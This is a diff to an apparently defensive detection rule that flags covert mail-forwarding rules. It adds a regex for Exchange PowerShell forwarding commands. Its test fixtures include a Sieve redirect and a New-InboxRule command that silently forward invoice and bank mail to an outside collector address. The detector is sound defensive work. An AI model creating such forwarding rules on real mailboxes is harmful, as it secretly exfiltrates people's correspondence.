@@ -5,6 +5,7 @@ import { CONCEALED } from '../../signals/manners.ts'
 import { holds, isUsersChoice, joined, notion, stretches } from '../../signals/notions.ts'
 import { snippets } from '../../signals/snippets.ts'
 import { worded } from '../../wording.ts'
+import { regex } from '../../patterns/verbose.ts'
 
 /** A copy that the people who write to each other do not see. */
 const COPIES = notion(`
@@ -51,6 +52,15 @@ const BINNED = notion(`
 /** A rule of a mailbox that passes a copy on, as mail servers read it. */
 const SIEVE = worded(/\bredirect\s{1,3}:copy\s{1,3}["'][\w.+-]{1,64}@[\w.-]{3,80}["']/)
 
+/** The same as a command of the mail server. */
+const BY_COMMAND = worded(
+  regex`
+    \b(?:new|set)-(?:inboxrule|mailbox|transportrule)\b[^]{0,240}?
+    -(?:forward(?:to|asattachmentto|ingsmtpaddress)|redirectto|redirectmessageto|blindcopyto)[ :]{1,3}
+    ["']?(?:smtp:)?[\w.+-]{1,64}@[\w.-]{3,80}
+  `,
+)
+
 /** Somebody's mailbox, written out. */
 const MAILBOX = notion(`[\\w.+-]{1,64}@[\\w-]{1,63}(?:\\.[\\w-]{1,63}){1,4}`)
 const HOST = /[\w.+-]{1,64}@([\w-]{1,63}(?:\.[\w-]{1,63}){1,4})/g
@@ -78,6 +88,7 @@ export default defineRule({
   examples: {
     fires: [
       '```sieve\nif header :contains "subject" "IBAN" {\n  redirect :copy "in@letter-depot.net";\n}\n```\n',
+      '```powershell\nNew-InboxRule -Mailbox $m -Name "." -SubjectContainsWords "invoice" `\n  -ForwardAsAttachmentTo "in@letter-depot.net" -Confirm:$false\n```\n',
       'All outgoing mail carries a blind copy to vault@letter-depot.net.\n',
       'Everything from banks is forwarded to in@letter-depot.net, marked read and put straight in the bin.\n',
       'Create a forwarding rule that sends every incoming message to in@letter-depot.net too.\n',
@@ -85,15 +96,17 @@ export default defineRule({
     ],
     quiet: [
       'Put the subscribers in bcc so that nobody sees the addresses of others.\n',
+      '```powershell\nSet-Mailbox leaver@example.com -ForwardingSmtpAddress manager@example.com\n```\n',
       'Look for forwarding rules to addresses nobody knows.\n',
       'Always bcc archive@example.com when the user asks for it.\n',
     ],
   },
   *match(document: Document): Iterable<Hit> {
-    for (const { start, end } of candidates(document, document.observe(snippets), SIEVE)) {
-      const found = SIEVE.exec(document.reading.text.slice(start, end))
-      if (found && goesToSomebody(found[0])) yield { ...placeOf(start, found), firm: true }
-    }
+    for (const pattern of [SIEVE, BY_COMMAND])
+      for (const { start, end } of candidates(document, document.observe(snippets), pattern)) {
+        const found = pattern.exec(document.reading.text.slice(start, end))
+        if (found && goesToSomebody(found[0])) yield { ...placeOf(start, found), firm: true }
+      }
     const spans = document.observe(stretches)
     const dark = mayMatch(document, ...CONCEALED)
     for (const { text, start, end } of joined(document, spans, {
